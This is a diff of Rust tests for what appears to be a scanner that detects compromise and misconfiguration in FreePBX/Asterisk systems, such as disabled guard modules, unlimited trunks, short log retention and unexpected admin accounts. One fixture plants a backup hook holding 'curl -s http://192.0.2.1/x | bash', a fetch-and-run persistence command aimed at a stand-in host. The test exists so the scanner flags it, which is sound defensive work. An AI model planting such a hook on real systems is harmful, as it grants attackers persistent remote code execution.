@@ -168,7 +168,67 @@ const SIGNS: &[Sign] = &[
         },
         found: ("panel-settings-missing", "/etc/freepbx.conf", "the list of users"),
     },
+    Sign {
+        plant: |scratch| {
+            for module in ["core", "framework", "cdr", "backup"] {
+                scratch.file(
+                    &format!("rootfs/var/www/html/admin/modules/{module}/functions.inc.php"),
+                    "<?php\n",
+                );
+            }
+            dump(
+                scratch,
+                "CREATE TABLE `modules` (\n  `id` int,\n  `modulename` varchar(50),\n  `version` varchar(20),\n  `enabled` int\n);\nINSERT INTO `modules` VALUES (1,'core','17.0.99',1),(2,'framework','17.0.99',1),(3,'cdr','17.0.99',1),(4,'backup','17.0.99',1),(5,'firewall','17.0.99',1),(6,'builtin','17.0.99',1);\n",
+            );
+        },
+        found: ("panel-module-gone", "modules of the panel", "firewall"),
+    },
+    Sign {
+        plant: |scratch| {
+            let manifest = "a:2:{s:16:\"manifest_version\";i:10;s:5:\"hooks\";a:2:{s:10:\"pre_backup\";s:0:\"\";s:11:\"post_backup\";s:34:\"curl -s http://192.0.2.1/x | bash;\";}}";
+            scratch.file("rootfs/var/spool/asterisk/backup/restore/manifest", manifest);
+        },
+        found: ("persistence-backup-hook", "post_backup", "192.0.2.1"),
+    },
+    Sign {
+        plant: |scratch| dump(scratch, &trunks("''", "T")),
+        found: ("spending-not-limited", "trunks of the panel", "TRUNK_OPTIONS"),
+    },
+    Sign {
+        plant: |scratch| {
+            scratch.file(
+                "rootfs/etc/asterisk/extensions.conf",
+                "[globals]\nTRUNK_OPTIONS = T\nOUT_1 = PJSIP/carrier\nOUTMAXCHANS_1 = \nOUTDISABLE_1 = off\n",
+            );
+        },
+        found: ("spending-not-limited", "trunks of the panel", "OUTMAXCHANS_1"),
+    },
+    Sign {
+        plant: |scratch| {
+            dump(
+                scratch,
+                "CREATE TABLE `modules` (\n  `id` int,\n  `modulename` varchar(50),\n  `version` varchar(20),\n  `enabled` int\n);\nINSERT INTO `modules` VALUES (1,'core','17.0.99',1),(2,'sysadmin','17.0.99',0);\n",
+            );
+        },
+        found: ("panel-guard-off", "sysadmin", "enabled=0"),
+    },
+    Sign {
+        plant: |scratch| {
+            scratch.file(
+                "rootfs/etc/logrotate.d/asterisk",
+                "/var/log/asterisk/full /var/log/asterisk/security {\n  daily\n  rotate 7\n  missingok\n}\n",
+            );
+        },
+        found: ("logs-kept-briefly", "rotation of logs", "/var/log/asterisk/full"),
+    },
 ];
+
+/// Returns a panel's tables with a trunk, one that is switched off, and the options of both.
+fn trunks(most_calls: &str, options: &str) -> String {
+    format!(
+        "CREATE TABLE `trunks` (\n  `trunkid` int,\n  `name` varchar(50),\n  `tech` varchar(20),\n  `maxchans` varchar(6),\n  `channelid` varchar(190),\n  `disabled` varchar(4)\n);\nINSERT INTO `trunks` VALUES (1,'Carrier','pjsip',{most_calls},'carrier','off'),(2,'Old','pjsip','','old','on');\nCREATE TABLE `freepbx_settings` (\n  `keyword` varchar(50),\n  `value` varchar(255)\n);\nINSERT INTO `freepbx_settings` VALUES ('TRUNK_OPTIONS','{options}');\n"
+    )
+}
 
 /// Writes a small panel that is as it should be.
 fn clean(scratch: &Scratch) {
@@ -269,8 +329,50 @@ fn what_only_looks_like_a_sign_raises_nothing() {
     scratch.file("rootfs/etc/asterisk/extensions.conf", "[from-internal]\ninclude => night,22:00-06:00,*,*,*\ninclude => day,09:00-17:00,mon-fri,*,*\nexten => 7000,1,Hangup()\n[night]\nexten => _9.,1,Hangup()\n[day]\nexten => _9.,1,Hangup()\n");
     scratch.file("rootfs/etc/iptables/rules.v4", "*filter\n:INPUT DROP [0:0]\nCOMMIT\n");
     scratch.file("rootfs/etc/iptables/rules.v6", "*filter\n:INPUT DROP [0:0]\nCOMMIT\n");
+    // A trunk with a maximum whose calls end, a module that guards and is on, logs that are kept for a quarter.
+    dump(
+        &scratch,
+        &format!(
+            "{}CREATE TABLE `modules` (\n  `id` int,\n  `modulename` varchar(50),\n  `version` varchar(20),\n  `enabled` int\n);\nINSERT INTO `modules` VALUES (1,'sysadmin','17.0.99',1);\n",
+            trunks("'6'", "TS(7200)")
+        ),
+    );
+    scratch.file(
+        "rootfs/etc/logrotate.d/asterisk",
+        "/var/log/asterisk/full {\n  daily\n  rotate 90\n}\n/var/log/alternatives.log {\n  daily\n  rotate 2\n}\n",
+    );
     let report = examine_folder(scratch.path(), &Options::default());
     for sign in SIGNS {
         assert!(of(&report, sign.found).is_none(), "{:?}", sign.found);
     }
+}
+
+/// Whom nothing here can judge is asked about, and blamed of nothing.
+#[test]
+fn a_second_administrator_in_a_single_dump_is_a_question() {
+    let rows = "CREATE TABLE `ampusers` (\n  `username` varchar(255),\n  `password_sha1` varchar(40),\n  `sections` varchar(255)\n);\nINSERT INTO `ampusers` VALUES ('admin','2f8b1c0de39b8a7744d1f2f1e9a0c5b6d7e8f901','*'),('maria','3f8b1c0de39b8a7744d1f2f1e9a0c5b6d7e8f902','*'),('pbxsupport','4f8b1c0de39b8a7744d1f2f1e9a0c5b6d7e8f903','*'),('desk','5f8b1c0de39b8a7744d1f2f1e9a0c5b6d7e8f904','cdr');\n";
+    let asked = |plant: &dyn Fn(&Scratch)| {
+        let scratch = Scratch::new();
+        clean(&scratch);
+        plant(&scratch);
+        let report = examine_folder(scratch.path(), &Options::default());
+        assert!(report.findings.iter().all(|finding| finding.id != "unknown-admin"));
+        let asked = report.to_confirm.iter();
+        asked.map(|one| (one.account.raw().to_owned(), one.why.contains("the product's"))).collect::<Vec<_>>()
+    };
+    let one_state = asked(&|scratch| dump(scratch, rows));
+    assert_eq!(one_state, [("maria".to_owned(), false), ("pbxsupport".to_owned(), true)]);
+    // An older state that has them tells that they are no news, and a single administrator is the owner's.
+    let two_states = asked(&|scratch| {
+        dump(scratch, rows);
+        let older = rows.replace(",('desk'", ",('gone','','cdr'),('desk'");
+        scratch.file("rootfs/var/backups/asterisk-20250101.sql", &format!("-- MariaDB dump 10.19\n{older}"));
+    });
+    assert!(two_states.is_empty(), "{two_states:?}");
+    let one = rows
+        .replace(",'*'),('maria'", ",'*'),('desk2'")
+        .replace("f902','*'", "f902','cdr'")
+        .replace("f903','*'", "f903','cdr'");
+    let alone = asked(&|scratch| dump(scratch, &one));
+    assert!(alone.is_empty(), "{alone:?}");
 }
